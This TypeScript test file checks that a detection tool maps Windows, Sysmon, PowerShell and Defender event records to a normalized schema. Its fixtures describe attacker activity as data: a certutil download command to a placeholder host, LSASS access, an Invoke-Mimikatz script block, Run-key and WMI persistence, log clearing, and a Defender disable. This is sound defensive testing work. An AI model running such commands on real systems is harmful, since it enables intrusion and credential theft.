// Issue 5's event list, one realistic record per event id (EventData names as Windows and Sysmon write them): each maps
// to its category and action with its key fields, passes the schema, and keeps channel, provider, id and raw pairs.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { checkEvent } from '@vigil/schema';
import { mapWindowsEvent, type WindowsEventRecord } from './index.js';

type Data = WindowsEventRecord['data'];

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
const DEFENDER = 'Microsoft-Windows-Windows Defender/Operational';

/** The issue's list: Sysmon 1-29; the Security ids; System 7045, 7036, 104; PowerShell 4103, 4104, 800; Defender. */
const ISSUE_LIST: Readonly<Record<string, readonly number[]>> = {
  [SYSMON]: Array.from({ length: 29 }, (_, i) => i + 1),
  Security: [4624, 4625, 4634, 4647, 4648, 4672, 4688, 4689, 4697, 4698, 4702, 4719, 4720, 4722, 4723, 4724, 4725, 4726, 4728, 4732, 4738, 4740, 4756, 4768, 4769, 4776, 5140, 5145, 1102],
  System: [7045, 7036, 104],
  'Microsoft-Windows-PowerShell/Operational': [4103, 4104],
  'Windows PowerShell': [800],
  [DEFENDER]: [1116, 1117, 5001, 5007],
};

interface Case {
  channel: string;
  provider: string;
  eventId: number;
  data: Data;
  /** Fields of the mapped event that must have exactly these values (`undefined`: must be absent). */
  expect: Record<string, unknown>;
  keywords?: string;
  extra?: Partial<WindowsEventRecord>;
}

const GUID = '{0197231E-03E9-69B1-BA1A-000000000800}';
const SHA256 = 'SHA256=0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF';
const sha256 = '0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef';
const sysmonBase = { RuleName: '-', UtcTime: '2026-03-11 05:55:53.547', ProcessGuid: GUID, ProcessId: '4242', User: 'CORP\\bob' };
const subject = { SubjectUserSid: 'S-1-5-21-1-2-3-500', SubjectUserName: 'admin', SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7f1' };
const target = { TargetUserName: 'carol', TargetDomainName: 'CORP', TargetSid: 'S-1-5-21-1-2-3-1107' };
const actor = { 'user.name': 'admin', 'user.domain': 'CORP', 'user.id': 'S-1-5-21-1-2-3-500' };
const targetUser = { 'user.target.name': 'carol', 'user.target.id': 'S-1-5-21-1-2-3-1107' };

const sysmon = (eventId: number, data: Data, expect: Record<string, unknown>): Case => ({ channel: SYSMON, provider: 'Microsoft-Windows-Sysmon', eventId, data, expect });
const security = (eventId: number, data: Data, expect: Record<string, unknown>, keywords = '0x8020000000000000'): Case => ({
  channel: 'Security',
  provider: 'Microsoft-Windows-Security-Auditing',
  eventId,
  data,
  expect,
  keywords,
});
const iam = (eventId: number, action: string): Case => security(eventId, { ...target, ...subject, PrivilegeList: '-' }, { 'event.category': 'iam', 'event.action': action, ...targetUser, ...actor });

const cases: Case[] = [
  // ---- Sysmon ----
  sysmon(1, { ...sysmonBase, Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f http://x/a a.exe', ParentProcessId: '5204', ParentImage: 'C:\\Windows\\System32\\cmd.exe', Hashes: SHA256 }, {
    'event.category': 'process', 'event.action': 'start', 'process.pid': 4242, 'process.name': 'certutil.exe', 'process.args': ['certutil', '-urlcache', '-f', 'http://x/a', 'a.exe'], 'process.parent.pid': 5204, 'process.hash.sha256': sha256, 'user.name': 'bob',
  }),
  sysmon(2, { ...sysmonBase, Image: 'C:\\Temp\\t.exe', TargetFilename: 'C:\\Users\\bob\\a.dll', CreationUtcTime: '2019-01-01 00:00:00.000', PreviousCreationUtcTime: '2026-03-11 05:55:50.000' }, {
    'event.category': 'file', 'event.action': 'timestomp', 'file.path': 'C:\\Users\\bob\\a.dll', 'file.created': '2019-01-01T00:00:00.000Z', 'process.name': 't.exe',
  }),
  sysmon(3, { ...sysmonBase, Image: 'C:\\Temp\\beacon.exe', Protocol: 'tcp', Initiated: 'true', SourceIp: '10.0.0.5', SourcePort: '50000', DestinationIp: '203.0.113.9', DestinationPort: '443' }, {
    'event.category': 'network', 'event.action': 'connect', 'network.direction': 'egress', 'destination.ip': '203.0.113.9', 'destination.port': 443, 'process.pid': 4242,
  }),
  sysmon(4, { UtcTime: '2026-03-11 05:55:53.547', State: 'Started', Version: '15.15', SchemaVersion: '4.90' }, { 'event.category': 'log', 'event.action': 'windows_event' }),
  sysmon(5, { ...sysmonBase, Image: 'C:\\Windows\\System32\\cmd.exe' }, { 'event.category': 'process', 'event.action': 'exit', 'process.end': '2026-03-11T05:55:53.547Z', 'process.pid': 4242 }),
  sysmon(6, { RuleName: '-', UtcTime: '2026-03-11 05:55:53.547', ImageLoaded: 'C:\\Windows\\System32\\drivers\\evil.sys', Hashes: SHA256, Signed: 'false', Signature: '-', SignatureStatus: 'Unavailable' }, {
    'event.category': 'driver', 'event.action': 'load', 'driver.path': 'C:\\Windows\\System32\\drivers\\evil.sys', 'driver.name': 'evil.sys', 'driver.hash.sha256': sha256, 'driver.signed': false,
  }),
  sysmon(7, { ...sysmonBase, Image: 'C:\\Windows\\System32\\rundll32.exe', ImageLoaded: 'C:\\Temp\\x.dll', Hashes: SHA256, Signed: 'false', Signature: '-', SignatureStatus: 'Unavailable' }, {
    'event.category': 'library', 'event.action': 'load', 'dll.path': 'C:\\Temp\\x.dll', 'dll.hash.sha256': sha256, 'dll.code_signature.valid': false, 'process.name': 'rundll32.exe',
  }),
  sysmon(8, {
    RuleName: '-', UtcTime: '2026-03-11 05:55:53.547', SourceProcessGuid: GUID, SourceProcessId: '4242', SourceImage: 'C:\\Temp\\inj.exe', TargetProcessGuid: '{0197231E-03E9-69B1-BA1A-000000000900}', TargetProcessId: '636',
    TargetImage: 'C:\\Windows\\System32\\lsass.exe', NewThreadId: '7788', StartAddress: '0x00007FF6A1B21000', StartModule: '-', StartFunction: '-', SourceUser: 'CORP\\bob', TargetUser: 'NT AUTHORITY\\SYSTEM',
  }, { 'event.category': 'injection', 'event.action': 'remote_thread', 'process.pid': 4242, 'target.process.pid': 636, 'target.process.name': 'lsass.exe', 'injection.start_address': '0x00007FF6A1B21000', 'injection.start_module': undefined }),
  sysmon(9, { ...sysmonBase, Image: 'C:\\Temp\\ninja.exe', Device: '\\Device\\HarddiskVolume2' }, { 'event.category': 'log', 'event.action': 'windows_event', 'process.name': 'ninja.exe', 'process.pid': 4242 }),
  sysmon(10, { ...sysmonBase, SourceProcessGUID: GUID, SourceProcessId: '4242', SourceImage: 'C:\\Temp\\m.exe', TargetProcessGUID: '{T}', TargetProcessId: '636', TargetImage: 'C:\\Windows\\System32\\lsass.exe', GrantedAccess: '0x1010', CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4', SourceUser: 'CORP\\bob' }, {
    'event.category': 'injection', 'event.action': 'process_access', 'target.process.name': 'lsass.exe', 'injection.granted_access': '0x1010',
  }),
  sysmon(11, { ...sysmonBase, Image: 'C:\\Windows\\System32\\curl.exe', TargetFilename: 'C:\\Users\\bob\\AppData\\Local\\Temp\\p.ps1', CreationUtcTime: '2026-03-11 05:55:50.000' }, {
    'event.category': 'file', 'event.action': 'create', 'file.name': 'p.ps1', 'file.extension': 'ps1',
  }),
  sysmon(12, { ...sysmonBase, EventType: 'CreateKey', Image: 'C:\\Windows\\regedit.exe', TargetObject: 'HKLM\\SOFTWARE\\Evil' }, { 'event.category': 'registry', 'event.action': 'key_create', 'registry.path': 'HKLM\\SOFTWARE\\Evil' }),
  sysmon(13, { ...sysmonBase, EventType: 'SetValue', Image: 'C:\\Windows\\regedit.exe', TargetObject: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x', Details: 'C:\\Temp\\x.exe' }, {
    'event.category': 'registry', 'event.action': 'value_set', 'registry.hive': 'HKCU', 'registry.value': 'x', 'registry.data.strings': ['C:\\Temp\\x.exe'],
  }),
  sysmon(14, { ...sysmonBase, EventType: 'RenameKey', Image: 'C:\\Windows\\regedit.exe', TargetObject: 'HKLM\\SOFTWARE\\Old', NewName: 'HKLM\\SOFTWARE\\New' }, {
    'event.category': 'registry', 'event.action': 'rename', 'registry.path': 'HKLM\\SOFTWARE\\New', 'registry.previous_path': 'HKLM\\SOFTWARE\\Old',
  }),
  sysmon(15, { ...sysmonBase, Image: 'C:\\Program Files\\Mozilla Firefox\\firefox.exe', TargetFilename: 'C:\\Users\\bob\\Downloads\\x.exe:Zone.Identifier', CreationUtcTime: '2026-03-11 05:55:50.000', Hash: SHA256, Contents: '[ZoneTransfer]  ZoneId=3 ' }, {
    'event.category': 'file', 'event.action': 'stream_create', 'file.path': 'C:\\Users\\bob\\Downloads\\x.exe:Zone.Identifier', 'file.hash.sha256': sha256,
  }),
  sysmon(16, { UtcTime: '2026-03-11 05:55:53.547', Configuration: 'C:\\sysmon.xml', ConfigurationFileHash: SHA256 }, { 'event.category': 'log', 'event.action': 'windows_event' }),
  sysmon(17, { ...sysmonBase, EventType: 'CreatePipe', PipeName: '\\MSSE-1234-server', Image: 'C:\\Temp\\beacon.exe' }, { 'event.category': 'pipe', 'event.action': 'created', 'pipe.name': '\\MSSE-1234-server', 'process.pid': 4242 }),
  sysmon(18, { ...sysmonBase, EventType: 'ConnectPipe', PipeName: '\\lsarpc', Image: 'C:\\Temp\\beacon.exe' }, { 'event.category': 'pipe', 'event.action': 'connected', 'pipe.name': '\\lsarpc' }),
  // WMI values as Sysmon writes them: a blank and the text in quotes (regression data of hayabusa's PowerLurk sample)
  sysmon(19, { RuleName: '-', EventType: 'WmiFilterEvent', UtcTime: '2026-03-11 05:55:53.547', Operation: 'Created', User: 'CORP\\bob', EventNamespace: ' "root/cimv2"', Name: ' "Evil"', Query: ' "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName=\'notepad.exe\'"' }, {
    'event.category': 'autostart', 'event.action': 'created', 'autostart.location': 'wmi', 'autostart.name': 'Evil', 'change.after': "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName='notepad.exe'", 'user.name': 'bob',
  }),
  sysmon(20, { RuleName: '-', EventType: 'WmiConsumerEvent', UtcTime: '2026-03-11 05:55:53.547', Operation: 'Created', User: 'CORP\\bob', Name: ' "Evil"', Type: 'Command Line', Destination: ' "cmd.exe /c echo %ProcessId% >> c:\\temp\\log.txt"' }, {
    'event.category': 'autostart', 'event.action': 'created', 'autostart.location': 'wmi', 'autostart.name': 'Evil', 'autostart.command': 'cmd.exe /c echo %ProcessId% >> c:\\temp\\log.txt',
  }),
  sysmon(21, { RuleName: '-', EventType: 'WmiBindingEvent', UtcTime: '2026-03-11 05:55:53.547', Operation: 'Deleted', User: 'CORP\\bob', Consumer: ' "CommandLineEventConsumer.Name=\\"Evil\\""', Filter: ' "__EventFilter.Name=\\"Evil\\""' }, {
    'event.category': 'autostart', 'event.action': 'deleted', 'autostart.location': 'wmi', 'autostart.name': 'CommandLineEventConsumer.Name=\\"Evil\\"', 'change.after': '__EventFilter.Name=\\"Evil\\"',
  }),
  sysmon(22, { ...sysmonBase, Image: 'C:\\Temp\\beacon.exe', QueryName: 'evil.example.com', QueryStatus: '0', QueryResults: '::ffff:198.51.100.4;' }, { 'event.category': 'dns', 'event.action': 'query', 'dns.question.name': 'evil.example.com', 'dns.resolved_ip': ['198.51.100.4'] }),
  sysmon(23, { ...sysmonBase, Image: 'C:\\Windows\\System32\\cmd.exe', TargetFilename: 'C:\\Users\\bob\\evidence.txt', Hashes: SHA256, IsExecutable: 'false', Archived: 'true' }, {
    'event.category': 'file', 'event.action': 'delete', 'file.path': 'C:\\Users\\bob\\evidence.txt', 'file.executable': false, 'event.outcome': undefined,
  }),
  sysmon(24, { ...sysmonBase, Image: 'C:\\Windows\\System32\\rdpclip.exe', Session: '2', ClientInfo: 'user: CORP\\bob', Hashes: SHA256, Archived: 'false' }, { 'event.category': 'log', 'event.action': 'windows_event', 'process.name': 'rdpclip.exe' }),
  sysmon(25, { ...sysmonBase, Image: 'C:\\Windows\\System32\\svchost.exe', Type: 'Image is replaced' }, { 'event.category': 'injection', 'event.action': 'process_tampering', 'process.name': 'svchost.exe', 'process.pid': 4242 }),
  sysmon(26, { ...sysmonBase, Image: 'C:\\Windows\\System32\\cmd.exe', TargetFilename: 'C:\\Users\\bob\\evidence.txt', Hashes: SHA256, IsExecutable: 'false' }, { 'event.category': 'file', 'event.action': 'delete', 'file.name': 'evidence.txt' }),
  sysmon(27, { ...sysmonBase, Image: 'C:\\Windows\\System32\\curl.exe', TargetFilename: 'C:\\Users\\bob\\x.exe', Hashes: SHA256 }, {
    'event.category': 'file', 'event.action': 'executable_drop', 'event.outcome': 'failure', 'file.path': 'C:\\Users\\bob\\x.exe',
  }),
  sysmon(28, { ...sysmonBase, Image: 'C:\\Temp\\sdelete.exe', TargetFilename: 'C:\\Users\\bob\\evidence.txt', Hashes: SHA256, IsExecutable: 'false' }, {
    'event.category': 'file', 'event.action': 'delete', 'event.outcome': 'failure', 'process.name': 'sdelete.exe',
  }),
  sysmon(29, { ...sysmonBase, Image: 'C:\\Windows\\System32\\curl.exe', TargetFilename: 'C:\\Users\\bob\\x.exe', Hashes: SHA256 }, {
    'event.category': 'file', 'event.action': 'executable_drop', 'event.outcome': undefined, 'file.hash.sha256': sha256,
  }),

  // ---- Security ----
  security(4624, { ...subject, ...target, TargetUserSid: 'S-1-5-21-1-2-3-1107', TargetLogonId: '0x5a1b2', LogonType: '10', LogonProcessName: 'User32 ', AuthenticationPackageName: 'Negotiate', IpAddress: '10.0.0.7', IpPort: '3389', WorkstationName: 'WS07' }, {
    'event.category': 'authentication', 'event.action': 'logon', 'event.outcome': 'success', 'logon.type': 'remote_interactive', 'logon.id': '0x5a1b2', 'source.ip': '10.0.0.7', ...targetUser,
  }),
  security(4625, { ...subject, TargetUserName: 'carol', TargetDomainName: 'CORP', Status: '0xc000006d', SubStatus: '0xc000006a', LogonType: '3', IpAddress: '10.0.0.7', IpPort: '0', WorkstationName: 'WS07' }, {
    'event.category': 'authentication', 'event.action': 'logon_failed', 'event.outcome': 'failure', 'logon.failure_reason': 'wrong password', 'logon.type': 'network', 'source.port': 0,
  }, '0x8010000000000000'),
  security(4634, { TargetUserSid: 'S-1-5-21-1-2-3-1107', TargetUserName: 'carol', TargetDomainName: 'CORP', TargetLogonId: '0x5a1b2', LogonType: '3' }, {
    'event.category': 'authentication', 'event.action': 'logoff', ...targetUser, 'logon.id': '0x5a1b2', 'logon.type': 'network',
  }),
  security(4647, { TargetUserSid: 'S-1-5-21-1-2-3-1107', TargetUserName: 'carol', TargetDomainName: 'CORP', TargetLogonId: '0x5a1b2' }, { 'event.category': 'authentication', 'event.action': 'logoff', ...targetUser, 'logon.id': '0x5a1b2' }),
  security(4648, {
    ...subject, LogonGuid: '{00000000-0000-0000-0000-000000000000}', TargetUserName: 'svc_sql', TargetDomainName: 'CORP', TargetLogonGuid: '{00000000-0000-0000-0000-000000000000}', TargetServerName: 'sql01.corp.example',
    TargetInfo: 'sql01.corp.example', ProcessId: '0x1a4', ProcessName: 'C:\\Windows\\System32\\runas.exe', IpAddress: '10.0.0.7', IpPort: '0',
  }, { 'event.category': 'authentication', 'event.action': 'explicit_credentials', 'user.target.name': 'svc_sql', 'destination.domain': 'sql01.corp.example', 'process.pid': 420, 'process.name': 'runas.exe', ...actor }),
  security(4672, { ...subject, PrivilegeList: 'SeDebugPrivilege\n\t\t\tSeBackupPrivilege' }, { 'event.category': 'authentication', 'event.action': 'special_privileges', 'logon.id': '0x3e7f1', ...actor }),
  security(4688, { ...subject, NewProcessId: '0x1f40', NewProcessName: 'C:\\Windows\\System32\\whoami.exe', TokenElevationType: '%%1936', ProcessId: '0x1a4', CommandLine: 'whoami /all', ParentProcessName: 'C:\\Windows\\System32\\cmd.exe', MandatoryLabel: 'S-1-16-12288' }, {
    'event.category': 'process', 'event.action': 'start', 'process.pid': 8000, 'process.name': 'whoami.exe', 'process.parent.pid': 420, 'process.parent.name': 'cmd.exe', 'process.integrity_level': 'High', 'process.args': ['whoami', '/all'], ...actor,
  }),
  security(4689, { ...subject, Status: '0x0', ProcessId: '0x1a4', ProcessName: 'C:\\Windows\\System32\\cmd.exe' }, { 'event.category': 'process', 'event.action': 'exit', 'process.exit_code': 0, 'process.pid': 420, 'process.name': 'cmd.exe' }),
  security(4697, { ...subject, ServiceName: 'evilsvc', ServiceFileName: 'C:\\Temp\\evil.exe', ServiceType: '0x10', ServiceStartType: '2', ServiceAccount: 'LocalSystem' }, {
    'event.category': 'service', 'event.action': 'created', 'service.name': 'evilsvc', 'service.executable': 'C:\\Temp\\evil.exe', 'service.type': 'windows_service', 'service.start_type': 'auto', 'service.account': 'LocalSystem', ...actor,
  }),
  security(4698, { ...subject, TaskName: '\\Updater', TaskContent: '<Task><Actions Context="Author"><Exec><Command>C:\\Temp\\u.exe</Command><Arguments>-q</Arguments></Exec></Actions></Task>' }, {
    'event.category': 'autostart', 'event.action': 'created', 'autostart.location': 'scheduled_task', 'autostart.name': '\\Updater', 'autostart.command': 'C:\\Temp\\u.exe -q',
  }),
  security(4702, { ...subject, TaskName: '\\Updater', TaskContentNew: '<Task><Actions Context="Author"><Exec><Command>C:\\Temp\\v.exe</Command></Exec></Actions></Task>' }, {
    'event.category': 'autostart', 'event.action': 'modified', 'autostart.location': 'scheduled_task', 'autostart.name': '\\Updater', 'autostart.command': 'C:\\Temp\\v.exe',
  }),
  security(4719, { ...subject, CategoryId: '%%8274', SubcategoryId: '%%12801', SubcategoryGuid: '{0CCE921D-69AE-11D9-BED3-505054503030}', AuditPolicyChanges: '%%8448, %%8450' }, { 'event.category': 'log', 'event.action': 'audit_policy_change', ...actor }),
  iam(4720, 'user_created'),
  iam(4722, 'user_enabled'),
  iam(4723, 'password_changed'),
  iam(4724, 'password_changed'),
  iam(4725, 'user_disabled'),
  iam(4726, 'user_deleted'),
  security(4728, { MemberName: 'CN=carol,CN=Users,DC=corp,DC=example', MemberSid: 'S-1-5-21-1-2-3-1107', TargetUserName: 'Domain Admins', TargetDomainName: 'CORP', TargetSid: 'S-1-5-21-1-2-3-512', ...subject, PrivilegeList: '-' }, {
    'event.category': 'iam', 'event.action': 'group_member_added', 'group.target.name': 'Domain Admins', 'group.target.id': 'S-1-5-21-1-2-3-512', 'user.target.id': 'S-1-5-21-1-2-3-1107', ...actor,
  }),
  security(4732, { MemberName: '-', MemberSid: 'S-1-5-21-1-2-3-1107', TargetUserName: 'Administrators', TargetDomainName: 'Builtin', TargetSid: 'S-1-5-32-544', ...subject, PrivilegeList: '-' }, {
    'event.category': 'iam', 'event.action': 'group_member_added', 'group.target.name': 'Administrators', 'group.target.id': 'S-1-5-32-544', 'user.target.id': 'S-1-5-21-1-2-3-1107', 'user.target.name': undefined,
  }),
  security(4738, { Dummy: '-', ...target, ...subject, PrivilegeList: '-', SamAccountName: '-', UserAccountControl: '%%2089' }, { 'event.category': 'iam', 'event.action': 'user_modified', ...targetUser, ...actor }),
  security(4740, { TargetUserName: 'carol', TargetDomainName: 'WS07', TargetSid: 'S-1-5-21-1-2-3-1107', ...subject }, { 'event.category': 'authentication', 'event.action': 'account_locked', ...targetUser }),
  security(4756, { MemberName: 'CN=carol,CN=Users,DC=corp,DC=example', MemberSid: 'S-1-5-21-1-2-3-1107', TargetUserName: 'Enterprise Admins', TargetDomainName: 'CORP', TargetSid: 'S-1-5-21-1-2-3-519', ...subject, PrivilegeList: '-' }, {
    'event.category': 'iam', 'event.action': 'group_member_added', 'group.target.name': 'Enterprise Admins', 'user.target.id': 'S-1-5-21-1-2-3-1107',
  }),
  security(4768, { ...target, ServiceName: 'krbtgt', ServiceSid: 'S-1-5-21-1-2-3-502', TicketOptions: '0x40810010', Status: '0x0', TicketEncryptionType: '0x12', PreAuthType: '2', IpAddress: '::ffff:10.0.0.7', IpPort: '49821' }, {
    'event.category': 'authentication', 'event.action': 'kerberos_ticket', 'event.outcome': 'success', 'logon.method': 'kerberos', 'user.target.name': 'carol',
  }),
  security(4769, { TargetUserName: 'carol@CORP.EXAMPLE', TargetDomainName: 'CORP.EXAMPLE', ServiceName: 'MSSQLSvc/sql01', ServiceSid: 'S-1-5-21-1-2-3-1200', TicketOptions: '0x40810000', TicketEncryptionType: '0x17', IpAddress: '::ffff:10.0.0.7', IpPort: '49822', Status: '0x0' }, {
    'event.category': 'authentication', 'event.action': 'kerberos_ticket', 'event.outcome': 'success', 'logon.method': 'kerberos', 'user.target.name': 'carol@CORP.EXAMPLE', 'source.port': 49822,
  }),
  security(4776, { PackageName: 'MICROSOFT_AUTHENTICATION_PACKAGE_V1_0', TargetUserName: 'carol', Workstation: 'WS07', Status: '0xc000006a' }, {
    'event.category': 'authentication', 'event.action': 'credential_validation', 'event.outcome': 'failure', 'logon.method': 'ntlm', 'logon.failure_reason': 'wrong password', 'source.domain': 'WS07', 'user.target.name': 'carol',
  }, '0x8010000000000000'),
  // Share access has no category of its own: a log record with the subject, every pair raw for the share rules.
  security(5140, { ...subject, ObjectType: 'File', IpAddress: '10.0.0.7', IpPort: '49823', ShareName: '\\\\*\\ADMIN$', ShareLocalPath: '\\??\\C:\\Windows', AccessMask: '0x1', AccessList: '%%4416' }, { 'event.category': 'log', 'event.action': 'windows_event', ...actor }),
  security(5145, { ...subject, ObjectType: 'File', IpAddress: '10.0.0.7', IpPort: '49823', ShareName: '\\\\*\\IPC$', ShareLocalPath: '', RelativeTargetName: 'svcctl', AccessMask: '0x3', AccessList: '%%4416 %%4417', AccessReason: '-' }, {
    'event.category': 'log', 'event.action': 'windows_event', ...actor,
  }),
  { channel: 'Security', provider: 'Microsoft-Windows-Eventlog', eventId: 1102, data: { SubjectUserSid: 'S-1-5-21-1-2-3-500', SubjectUserName: 'admin', SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7f1' }, expect: { 'event.category': 'log', 'event.action': 'audit_log_cleared', ...actor } },

  // ---- System ----
  { channel: 'System', provider: 'Service Control Manager', eventId: 7045, data: { ServiceName: 'PSEXESVC', ImagePath: '%SystemRoot%\\PSEXESVC.exe', ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' }, expect: {
    'event.category': 'service', 'event.action': 'created', 'service.name': 'PSEXESVC', 'service.start_type': 'demand', 'user.id': 'S-1-5-21-1-2-3-500',
  }, extra: { userSid: 'S-1-5-21-1-2-3-500' } },
  { channel: 'System', provider: 'Service Control Manager', eventId: 7036, data: { param1: 'Print Spooler', param2: 'stopped' }, expect: { 'event.category': 'service', 'event.action': 'stopped', 'service.name': 'Print Spooler', 'service.state': 'stopped' } },
  { channel: 'System', provider: 'Microsoft-Windows-Eventlog', eventId: 104, data: { SubjectUserName: 'admin', SubjectDomainName: 'CORP', Channel: 'System', BackupPath: '' }, expect: { 'event.category': 'log', 'event.action': 'audit_log_cleared', 'user.name': 'admin', 'user.domain': 'CORP' } },

  // ---- PowerShell ----
  { channel: 'Microsoft-Windows-PowerShell/Operational', provider: 'Microsoft-Windows-PowerShell', eventId: 4103, data: { ContextInfo: '        Host Application = powershell.exe -enc SQBFAFgA\r\n        User = CORP\\alice\r\n', Payload: 'CommandInvocation(Invoke-Expression)' }, expect: {
    'event.category': 'script', 'event.action': 'module_log', 'script.language': 'powershell', 'process.command_line': 'powershell.exe -enc SQBFAFgA', 'user.name': 'alice', 'process.pid': 5100,
  }, extra: { processId: 5100 } },
  { channel: 'Microsoft-Windows-PowerShell/Operational', provider: 'Microsoft-Windows-PowerShell', eventId: 4104, data: { MessageNumber: 1, MessageTotal: 1, ScriptBlockText: 'Invoke-Mimikatz', ScriptBlockId: '5b1c2a3e-0000-4000-8000-000000000001', Path: '' }, expect: {
    'event.category': 'script', 'event.action': 'script_block', 'script.text': 'Invoke-Mimikatz', 'script.path': undefined,
  } },
  { channel: 'Windows PowerShell', provider: 'PowerShell', eventId: 800, data: { 'Data[1]': 'Get-Process', 'Data[2]': '\tHostApplication=powershell.exe -nop\r\n\tUserId=CORP\\bob\r\n' }, expect: { 'event.category': 'script', 'event.action': 'module_log', 'process.command_line': 'powershell.exe -nop', 'user.name': 'bob' } },

  // ---- Defender (kept as log records, the detection lifted into message, process and user) ----
  { channel: DEFENDER, provider: 'Microsoft-Windows-Windows Defender', eventId: 1116, data: { 'Threat Name': 'HackTool:Win32/Mimikatz', 'Severity Name': 'High', 'Category Name': 'Tool', Path: 'file:_C:\\m.exe', 'Process Name': 'C:\\Windows\\explorer.exe', 'Detection User': 'CORP\\bob' }, expect: {
    'event.category': 'log', 'event.action': 'windows_event', 'log.level': 'High', 'process.name': 'explorer.exe', 'user.name': 'bob',
  } },
  { channel: DEFENDER, provider: 'Microsoft-Windows-Windows Defender', eventId: 1117, data: { 'Threat Name': 'Virus:DOS/EICAR_Test_File', 'Action Name': 'Quarantine', 'Process Name': 'Unknown' }, expect: { 'event.category': 'log', message: 'Defender: Virus:DOS/EICAR_Test_File; Quarantine', 'process.executable': undefined } },
  { channel: DEFENDER, provider: 'Microsoft-Windows-Windows Defender', eventId: 5001, data: {}, expect: { 'event.category': 'log', 'event.action': 'windows_event' } },
  { channel: DEFENDER, provider: 'Microsoft-Windows-Windows Defender', eventId: 5007, data: { 'Old Value': 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring = 0x0', 'New Value': 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring = 0x1' }, expect: { 'event.category': 'log', 'event.action': 'windows_event' } },
];

function record(c: Case): WindowsEventRecord {
  return {
    channel: c.channel,
    provider: c.provider,
    eventId: c.eventId,
    computer: 'host07.corp.example',
    timeCreated: '2026-03-11T05:55:53.600123Z',
    recordId: 1000 + c.eventId,
    level: 4,
    ...(c.keywords ? { keywords: c.keywords } : {}),
    data: c.data,
    ...c.extra,
  };
}

test('the cases cover every event id of the issue list, each once', () => {
  const covered = cases.map((c) => `${c.channel} ${c.eventId}`);
  assert.equal(new Set(covered).size, covered.length, 'a case is listed twice');
  const wanted = Object.entries(ISSUE_LIST).flatMap(([channel, ids]) => ids.map((id) => `${channel} ${id}`));
  assert.deepEqual([...covered].sort(), [...wanted].sort());
});

for (const c of cases) {
  test(`${c.channel} ${c.eventId} maps to ${String(c.expect['event.category'])}/${String(c.expect['event.action'] ?? '')}`, () => {
    const input = record(c);
    const event = mapWindowsEvent(input) as unknown as Record<string, unknown>;
    const candidate = { ...event, 'event.id': '0f8fad5b-d9cb-469f-a165-70867728950e', 'event.sequence': 1, 'host.id': 'host-1' };
    assert.deepEqual(checkEvent(candidate, 'event').problems, []);
    // Whatever the category, the event keeps what a Sigma rule on raw fields needs.
    assert.equal(event['winlog.channel'], c.channel);
    assert.equal(event['winlog.provider_name'], c.provider);
    assert.equal(event['winlog.event_id'], c.eventId);
    assert.deepEqual(event['winlog.event_data'], c.data);
    assert.equal(event['host.name'], 'host07.corp.example');
    const got = Object.fromEntries(Object.keys(c.expect).map((key) => [key, event[key]]));
    assert.deepEqual(got, c.expect);
  });
}

test('Sysmon WMI events with an Operation other than Created, Modified or Deleted stay log records', () => {
  const c = cases.find((x) => x.channel === SYSMON && x.eventId === 20)!;
  const event = mapWindowsEvent(record({ ...c, data: { ...c.data, Operation: 'Unknown' } })) as unknown as Record<string, unknown>;
  assert.deepEqual([event['event.category'], event['event.action'], event['autostart.name']], ['log', 'windows_event', undefined]);
});
